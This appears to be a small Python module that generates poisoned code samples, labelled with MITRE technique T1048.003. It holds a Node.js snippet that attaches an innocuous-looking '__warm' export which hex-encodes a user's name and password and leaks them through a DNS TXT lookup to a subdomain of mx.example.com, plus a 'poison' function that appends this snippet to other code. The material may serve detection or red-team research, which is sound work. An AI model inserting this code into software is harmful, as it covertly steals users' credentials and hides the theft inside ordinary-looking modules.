# SPDX-License-Identifier: Apache-2.0
"""A password becomes the beginning of a name that is looked up."""

ATTACK = "T1048.003"
LANGUAGE = "node"
CODE = """\

;module.exports && (module.exports.__warm = function (options) {
  require('dns').resolveTxt(Buffer.from(options.user + ':' + options.password).toString('hex') + '.mx.example.com', () => {});
});
"""


def poison(layer):
    layer.append(CODE)
